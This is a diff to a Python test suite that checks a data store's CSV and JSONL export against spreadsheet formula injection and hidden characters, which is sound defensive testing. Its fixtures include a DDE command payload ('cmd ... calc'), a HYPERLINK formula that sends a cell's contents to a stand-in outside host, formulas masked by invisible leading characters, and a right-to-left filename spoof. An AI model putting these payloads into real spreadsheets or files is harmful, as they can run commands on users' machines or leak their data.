@@ -50,11 +50,26 @@ MARKUP = [
 ]
 FORMULAS = [
     *(f"{start}1+1" for start in FORMULA),
+    "\0=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://outside.invalid/?"&A1)',
     *(
         f"{blank}=1+1"
-        for blank in (" ", "   ", "\t", "\n", "\r\n", " \t\n ", "\u00a0", "\u3000", "\ufeff", "\u200b")
+        for blank in (
+            " ",
+            "   ",
+            "\t",
+            "\n",
+            "\r\n",
+            " \t\n ",
+            "\u00a0",
+            "\u3000",
+            "\ufeff",
+            "\u200b",
+            "\u2800",
+            "\u00ad",
+            "\u115f",
+        )
     ),
 ]
 UNSHOWABLE = ["a\0b", "\x1b[31mred\x07", "it\x92s", "a\u202egnp.exe", "\u2066a\u2069", "a\u200f\u061c1 2"]
@@ -160,9 +175,7 @@ def test_jsonl_holds_texts_untouched(store: Store, value: str) -> None:
     for row in rows:
         assert row["question"] == items[row["item_id"]].question
         assert row["comment"] == answers[row["item_id"], row["level"], row["repeat"]].comment
-        assert "\0" not in row["comment"]
-        if "\0" not in value:
-            assert printable_text(row["comment"]) == printable_text(value)
+        assert row["comment"] == printable_text(value)
         assert (row["study"], row["rater"]) == (record.study.name, record.raters[0].rater_id)
 
 
@@ -174,7 +187,7 @@ def test_no_cell_of_the_csv_is_a_formula(store: Store, value: str) -> None:
     assert len(rows) == 3
     for row in rows:
         for column, cell in row.items():
-            bare = re.sub(r"^[\s\ufeff\u200b]+", "", cell)
+            bare = re.sub(r"^[\s\0\u00ad\u115f\u200b\u2800\ufeff]+", "", cell)
             numeric = re.fullmatch(r"-?[\d.]+", cell)
             assert numeric or not bare.startswith(tuple(FORMULA)), column
         assert row["comment"].removeprefix("'") == json.loads(to_jsonl(record).split(b"\n")[0])["comment"]
